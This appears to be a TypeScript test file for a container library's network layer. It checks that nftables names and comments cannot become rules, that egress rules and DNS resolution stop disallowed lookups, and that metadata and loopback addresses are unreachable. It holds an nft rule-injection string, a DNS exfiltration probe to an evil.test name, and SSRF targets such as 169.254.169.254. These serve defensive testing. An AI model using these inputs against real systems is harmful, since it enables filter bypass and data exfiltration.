/** Group L: networks and the packet filter. */

import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Container, type EgressPolicy, Links, type Namespace, Netfilter, nft } from '../../lib/index.js';
import { fetchInside, nameServer, serve } from '../support/egress.js';
import { makeNetwork, nftText, runIn } from '../support/nft.js';
import { needsPrograms } from '../support/requirements.js';

let network: Namespace;
let filter: Netfilter;
beforeAll(async () => {
  network = await makeNetwork();
  filter = await Netfilter.open({ namespace: network });
});
afterAll(() => {
  filter.close();
  network.close();
});

/** What would be a rule of its own, or would end the table, if it ever were text for nft. */
const injection = '"; }; add rule inet jobs c accept; #';

describe('group L', () => {
  it('L1: a name of a link is one, a link that is there is never altered by making one, and an index means one link', async () => {
    await using links = await Links.open({ namespace: network });
    const make = (name: string, mtu: number) => links.add({ kind: 'bridge', name, mtu });
    const made = await make('first', 1400);
    for (const name of ['eth%d', 'a/b', 'a b', 'a:1', '.', '..', 'all', 'default', '', 'x'.repeat(16), 'a\0b', 'a\n']) {
      await expect(make(name, 1400), JSON.stringify(name)).rejects.toThrow('option name');
    }
    await expect(make('first', 1300)).rejects.toThrow('EEXIST');
    expect(await links.get('first')).toEqual({ ...made, state: expect.anything() });
    // Whoever has the name later is not who is meant.
    await links.set('first', { name: 'renamed' });
    const second = await make('first', 1500);
    await links.set(made.index, { mtu: 1200 });
    expect([(await links.get('renamed'))?.mtu, (await links.get(second.index))?.mtu]).toEqual([1200, 1500]);
    for (const { index } of [made, second]) await links.remove(index);
  });

  it('L8: names and comments never become rules', async (context) => {
    await filter.transaction((t) => {
      const table = t.table('inet', 'jobs', { comment: injection });
      table.set('s', { type: 'ipv4_addr', comment: injection, elements: [{ value: '10.0.0.1', comment: injection }] });
      table
        .chain('c', { comment: injection })
        .rule([nft.log({ prefix: injection, group: 1 }), nft.drop], { comment: injection });
    });
    const [table] = (await filter.list()).tables;
    const [chain] = table?.chains ?? [];
    expect([table?.comment, table?.sets[0]?.comment, table?.sets[0]?.elements[0]?.comment]).toEqual([
      injection,
      injection,
      injection,
    ]);
    expect([chain?.comment, chain?.rules[0]?.comment]).toEqual([injection, injection]);
    expect(chain?.rules).toHaveLength(1);
    expect(chain?.rules[0]?.statements).toEqual([nft.log({ prefix: injection, group: 1 }), nft.drop]);
    for (const name of [injection, 'a b', 'a;b', '-a', '"a"', 'a\0b', '']) {
      await expect(filter.transaction((t) => void t.existing('inet', 'jobs').chain(name))).rejects.toThrow(
        'option name',
      );
      await expect(filter.transaction((t) => void t.table('inet', name))).rejects.toThrow('option name');
    }
    // As text for nft the same words are rules: the control.
    needsPrograms(context, 'nft', 'nsenter');
    runIn(
      network,
      ['nft', '-f', '-'],
      `add rule inet jobs c log group 1 prefix "a${injection.replace(' #', '')}\n`.replace(' };', ''),
    );
    expect(
      nftText(network)
        .split('\n')
        .filter((line) => /^\t\taccept$/.test(line)),
    ).toHaveLength(1);
  });

  it('L5: a name that is not allowed is asked of nobody outside', async () => {
    await using dns = await nameServer({ 'ok.test': ['192.0.2.1'], 'c2VjcmV0.evil.test': ['192.0.2.1'] });
    await using box = await withEgress({ allow: ['ok.test'], dns: { servers: [dns.address] } });
    const look = async (name: string) =>
      (await box.exec(['python3', '-c', `import socket; socket.gethostbyname('${name}')`])).exitCode;
    expect(await look('c2VjcmV0.evil.test')).toBe(1);
    expect(dns.asked).toEqual([]);
    expect(await look('ok.test')).toBe(0);
    expect(dns.asked.length).toBeGreaterThan(0);
    // Another name server is only one more address that is not allowed, over UDP and over TCP.
    const [host = '', port = ''] = dns.address.split(':');
    const direct = `
import socket
for kind, to in ((socket.SOCK_DGRAM, '192.0.2.53'), (socket.SOCK_DGRAM, '${host}'), (socket.SOCK_STREAM, '192.0.2.53')):
    s = socket.socket(socket.AF_INET, kind); s.settimeout(5)
    try: s.connect((to, ${port} if to == '${host}' else 53)); s.send(b'x'); print('got', s.recv(9))
    except OSError as e: print('refused')`;
    expect((await box.exec(['python3', '-c', direct])).stdout).toBe('refused\nrefused\nrefused\n');
  });

  it('L6: IPv6 is judged as IPv4 is, and is refused where the container has none', async () => {
    await using api = await serve();
    const connect = { connect: { host: '127.0.0.1', port: api.port } };
    await using box = await withEgress((c) =>
      c.address === '2001:db8::1' || c.address === '192.0.2.1' ? connect : 'deny',
    );
    expect(await fetchInside(box, '192.0.2.1', 80)).toBe('hello');
    expect(await fetchInside(box, '192.0.2.2', 80)).toBe('ECONNRESET');
    expect(await fetchInside(box, '2001:db8::1', 80)).toBe('hello');
    expect(await fetchInside(box, '2001:db8::2', 80)).toBe('ECONNRESET');
    // The same host in the form of IPv6 is the same host.
    expect(await fetchInside(box, '::ffff:192.0.2.1', 80)).toBe('hello');
    expect(await fetchInside(box, '::ffff:192.0.2.2', 80)).toBe('ECONNRESET');
    const sysctl = { 'net.ipv6.conf.all.disable_ipv6': 1 };
    await using without = await Container.create({ network: { egress: () => connect }, sysctl });
    expect(await fetchInside(without, '192.0.2.1', 80)).toBe('hello');
    expect(await fetchInside(without, 'name.test', 80)).toBe('hello');
    expect(await fetchInside(without, '2001:db8::1', 80)).not.toBe('hello');
  });

  it('L7: metadata, link-local addresses and the services of this host are out of reach, by address and by name', async () => {
    const own = Object.values(networkInterfaces()).flatMap((list) => list ?? []);
    const outer = own.find(({ internal, family }) => !internal && family === 'IPv4')?.address;
    await using service = await serve(undefined, '0.0.0.0');
    const metadata = ['169.254.169.254', '169.254.7.7', 'fd00:ec2::254', 'fe80::1%lo'];
    await using dns = await nameServer({
      'meta.test': ['169.254.169.254', 'fd00:ec2::254'],
      'loop.test': ['127.0.0.1', '::1'],
      'zero.test': ['0.0.0.0'],
      'mapped.test': ['::ffff:127.0.0.1'],
      ...(outer === undefined ? {} : { 'host.test': [outer] }),
    });
    const servers = [dns.address];
    const { port } = service;
    await using box = await withEgress({ allow: ['*', '0.0.0.0/0', '::/0'], dns: { servers } });
    const reasons: string[] = [];
    box.egress?.on('denied', ({ reason }) => reasons.push(reason));
    const targets = [...metadata, ...(outer === undefined ? [] : [outer]), ...dns.records.keys()];
    for (const target of targets) expect(await fetchInside(box, target, port), target).toBe('ECONNRESET');
    expect(reasons).toEqual(targets.map(() => 'special-address'));
    // Its own loopback is nobody else's.
    for (const target of ['127.0.0.1', '127.9.9.9', '::1', '0.0.0.0', '2130706433', '0x7f.1', '::ffff:127.0.0.1']) {
      expect(await fetchInside(box, target, port), target).toBe('ECONNREFUSED');
    }
    expect(service.accepted).toHaveLength(0);
    // By a pattern that names them they are reached: the control.
    box.egress?.update({
      allow: ['*', `127.0.0.1:${port}`, ...(outer === undefined ? [] : [`${outer}:${port}`])],
      dns: { servers },
    });
    expect(await fetchInside(box, 'loop.test', port)).toBe('hello');
    if (outer !== undefined) {
      expect(await fetchInside(box, outer, port)).toBe('hello');
      expect(await fetchInside(box, 'host.test', port)).toBe('hello');
    }
    // A name that comes to mean this host after it was asked for is looked at when it is used.
    await using later = await nameServer({ 'turns.test': ['192.0.2.1'] }, 1);
    box.egress?.update({ allow: ['*'], dns: { servers: [later.address] } });
    const code = `
import socket, time
to = socket.getaddrinfo('turns.test', ${port}, socket.AF_INET, socket.SOCK_STREAM)[0][4]
print('known', flush=True); time.sleep(1.5)
s = socket.create_connection(to)
try: print(s.recv(9))
except ConnectionResetError: print('reset')`;
    const program = box.exec(['python3', '-c', code], { stdout: 'pipe' });
    let text = '';
    for await (const chunk of program.stdout ?? []) {
      later.records.set('turns.test', ['127.0.0.1']);
      text += chunk;
    }
    expect(text).toBe('known\nreset\n');
  });
});

function withEgress(egress: EgressPolicy): Promise<Container> {
  return Container.create({ network: { egress } });
}
